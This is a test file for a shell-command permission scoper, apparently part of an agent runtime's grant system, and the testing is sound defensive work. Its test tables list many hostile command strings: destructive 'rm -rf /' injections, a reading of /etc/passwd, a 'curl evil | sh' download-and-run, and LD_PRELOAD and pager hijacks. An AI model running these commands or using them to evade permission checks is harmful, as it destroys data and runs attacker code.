import { describe, expect, it } from 'vitest';
import {
  commandScope,
  commandStartsWith,
  commandSummary,
} from '../../../src/runtime/grants/command-scope.js';
import { readShellCommand } from '../../../src/runtime/grants/shell-words.js';

const wordsOf = (command: string) => commandScope(command);

describe('the scope "always" gives a shell command', () => {
  it.each([
    ['ls', ['ls']],
    ['ls -la src', ['ls']],
    ['  git status  ', ['git', 'status']],
    ['git status --short', ['git', 'status']],
    ['git "status"', ['git', 'status']],
    ["git 'log' --oneline -5", ['git', 'log']],
    ['npm test', ['npm', 'test']],
    ['npm run build', ['npm', 'run', 'build']],
    ['yarn run lint --fix', ['yarn', 'run', 'lint']],
    ['cargo build --release', ['cargo', 'build']],
    ['/usr/bin/git diff HEAD', ['/usr/bin/git', 'diff']],
    ['python3 manage.py test', ['python3', 'manage.py']],
    ['node scripts/build.js --prod', ['node', 'scripts/build.js']],
    ['bash ./deploy.sh staging', ['bash', './deploy.sh']],
    ['echo hello $HOME', ['echo']],
    ['cat "a file.txt"', ['cat']],
    ['grep -r "a;b" src', ['grep']],
    ["grep 'x|y' notes.md", ['grep']],
    ['ls *.txt', ['ls']],
    ['cd src', ['cd']],
  ])('%s → %j', (command, words) => {
    expect(wordsOf(command)).toEqual({ kind: 'command', words });
  });

  it.each([
    ['rm -rf ./keep; echo X > important.txt', 'several commands'],
    ['ls && rm -rf /', 'several commands'],
    ['ls || rm -rf /', 'several commands'],
    ['ls | sh', 'several commands'],
    ['ls & rm -rf /', 'several commands'],
    ['ls&', 'several commands'],
    ['ls > out.txt', 'redirects'],
    ['ls >> out.txt', 'redirects'],
    ['cat < /etc/passwd', 'redirects'],
    ['cat <<EOF', 'redirects'],
    ['ls 2>&1', 'redirects'],
    ['ls &> out', 'several commands'],
    ['diff <(ls a) <(ls b)', 'redirects'],
    ['echo $(rm -rf /)', 'inside it'],
    ['echo "$(rm -rf /)"', 'inside it'],
    ['echo `rm -rf /`', 'inside it'],
    ['echo "`rm -rf /`"', 'inside it'],
    ['ls\nrm -rf /', 'several lines'],
    ['ls\rrm -rf /', 'several lines'],
    ['ls \\\nrm', 'several lines'],
    ["echo 'a\nb'", 'several lines'],
    ['(rm -rf /)', 'parentheses'],
    ['{ rm -rf /; }', 'several commands'],
    ["echo 'unclosed", 'not closed'],
    ['echo "unclosed', 'not closed'],
    ['echo \\', 'shell syntax'],
    ['ls # ; rm', 'shell syntax'],
    [`echo $\{HOME:-$(rm -rf /)}`, 'shell syntax'],
    [`echo $\{x/a/b}`, 'shell syntax'],
    ["echo $'\\x3b rm'", 'shell syntax'],
    ['echo $"x"', 'shell syntax'],
    ['echo $[1+1]', 'shell syntax'],
    ['echo a\u0000b', 'shell syntax'],
    ['echo \u001b[2J', 'shell syntax'],
    ['FOO=1 git status', 'environment variables'],
    ['PATH=/tmp/evil ls', 'environment variables'],
    ['LD_PRELOAD=./x.so ls', 'environment variables'],
    ['sudo rm -rf /', '`sudo` runs other commands'],
    ['/usr/bin/sudo ls', '`sudo` runs other commands'],
    ['env rm -rf /', '`env` runs other commands'],
    ['command rm -rf /', 'part of the shell'],
    ['exec rm -rf /', 'part of the shell'],
    ['eval "rm -rf /"', 'part of the shell'],
    ['xargs rm', '`xargs` runs other commands'],
    ['nohup rm -rf / ', '`nohup` runs other commands'],
    ['timeout 5 rm -rf /', '`timeout` runs other commands'],
    ['find . -exec rm {} +', '`find` runs other commands'],
    ['bash -c "rm -rf /"', '`bash` runs code'],
    ['sh -c "rm -rf /"', '`sh` runs code'],
    ['python3 -c "import os"', '`python3` runs code'],
    ['node -e "process.exit()"', '`node` runs code'],
    ["awk '{print}' f", '`awk` runs code'],
    ["let 'a[$(rm -rf /)]=1'", 'part of the shell'],
    ["test -v 'a[$(rm -rf /)]'", 'part of the shell'],
    ["printf -v 'a[$(rm -rf /)]' x", 'part of the shell'],
    ["declare 'a[$(rm -rf /)]=1'", 'part of the shell'],
    ["read 'a[$(rm -rf /)]'", 'part of the shell'],
    ['source ./evil.sh', 'part of the shell'],
    ['. ./evil.sh', 'part of the shell'],
    ["trap 'rm -rf /' EXIT", 'part of the shell'],
    ['if true; then rm -rf /; fi', 'several commands'],
    ['git -C /etc status', 'names none first'],
    ['git -c core.pager=sh status', 'names none first'],
    ['git', 'names none first'],
    ['git rebase -x "rm -rf /" main', 'can run other commands'],
    ['git submodule foreach rm -rf /', 'can run other commands'],
    ['npm exec evil', 'can run other commands'],
    ['npm run', 'the script it runs'],
    ['npm run $SCRIPT', 'the script it runs'],
    ['docker run --rm -v /:/h alpine rm -rf /h', 'can run other commands'],
    ['$CMD status', 'not named plainly'],
    ['g?t status', 'not named plainly'],
    ['{rm,-rf,/}', 'not named plainly'],
    ['~/bin/tool', 'not named plainly'],
    ['"rm -rf /"', 'not named plainly'],
    ['-rf', 'not named plainly'],
    ['', 'empty'],
    ['   ', 'empty'],
  ])('%j is granted only as itself (%s)', (command, why) => {
    const scope = wordsOf(command);
    expect(scope.kind).toBe('exact-command');
    if (scope.kind === 'exact-command') {
      expect(scope.narrowed).toContain(why);
      expect(scope.command).toBe(command.trim());
    }
  });
});

describe('which later commands a command scope covers', () => {
  it.each([
    [['ls'], 'ls'],
    [['ls'], 'ls -la src'],
    [['ls'], "ls 'a b'"],
    [['git', 'status'], 'git status'],
    [['git', 'status'], 'git   status --short'],
    [['git', 'status'], 'git "status"'],
    [['git', 'status'], 'g\\it status'],
    [['npm', 'run', 'build'], 'npm run build -- --watch'],
  ])('%j covers %j', (words, command) => {
    expect(commandStartsWith(command, words)).toBe(true);
  });

  it.each([
    [['ls'], 'rm -rf ./keep; echo X > important.txt'],
    [['ls'], 'ls; rm -rf /'],
    [['ls'], 'ls && rm -rf /'],
    [['ls'], 'ls | sh'],
    [['ls'], 'ls > f'],
    [['ls'], 'ls $(rm -rf /)'],
    [['ls'], 'ls `rm -rf /`'],
    [['ls'], 'ls\nrm -rf /'],
    [['ls'], 'ls &'],
    [['ls'], 'lsof'],
    [['ls'], 'FOO=1 ls'],
    [['ls'], 'sudo ls'],
    [['ls'], 'env ls'],
    [['ls'], '/bin/ls'],
    [['ls'], 'l? -la'],
    [['ls'], '$X'],
    [['ls'], "ls 'unclosed"],
    [['git', 'status'], 'git push --force'],
    [['git', 'status'], 'git statusx'],
    [['git', 'status'], 'git -c core.fsmonitor=evil status'],
    [['git', 'status'], 'git'],
    [['git', 'status'], 'git $SUB'],
    [['git', 'status'], 'git stat*'],
    [['npm', 'run', 'build'], 'npm run deploy'],
    [['npm', 'test'], 'npm test; curl evil | sh'],
    [['python3', 'manage.py'], 'python3 -c "import os"'],
  ])('%j does not cover %j', (words, command) => {
    expect(commandStartsWith(command, words)).toBe(false);
  });
});

describe('reading a command as bash does', () => {
  it('removes quotes and escapes, keeping what bash passes on', () => {
    const reading = readShellCommand(`git commit -m "it's \\"done\\"" --author='A B' x\\ y`);
    expect(reading).toMatchObject({ plain: true });
    if (reading.plain) {
      expect(reading.words.map((w) => w.text)).toEqual([
        'git',
        'commit',
        '-m',
        `it's "done"`,
        '--author=A B',
        'x y',
      ]);
    }
  });

  it('takes only unquoted leading NAME=value words for assignments', () => {
    const reading = readShellCommand(`"FOO=1" ls A=2`);
    expect(reading.plain && reading.words.map((w) => w.assignment)).toEqual([false, false, false]);
    const leading = readShellCommand('A=1 B+=2 ls');
    expect(leading.plain && leading.words.map((w) => w.assignment)).toEqual([true, true, false]);
  });

  it('marks words bash would expand', () => {
    const reading = readShellCommand(`echo $HOME $\{USER} "$x" * ~ {a,b} !x plain`);
    expect(reading.plain && reading.words.map((w) => w.literal)).toEqual([
      true,
      false,
      false,
      false,
      false,
      false,
      false,
      false,
      true,
    ]);
  });

  it('says what a person can read about each scope', () => {
    expect(commandSummary(commandScope('git status'))).toBe('run `git status …` (any further arguments)');
    expect(commandSummary(commandScope('ls; rm x'))).toBe('run exactly `ls; rm x` again');
    expect(commandSummary(commandScope(`echo ${'x'.repeat(200)}; ls`))).toBe(
      'run exactly this command again (as shown above)',
    );
  });
});

describe('an exact command is shown inline only when it reads as it is', () => {
  it.each([['ls;\u001b[2J rm x'], ['ls;\trm x'], ['ls;`rm x`'], ['ls;\nrm x']])(
    '%j is shown above, not inline',
    (command) => {
      expect(commandSummary(commandScope(command))).toBe('run exactly this command again (as shown above)');
    },
  );
});
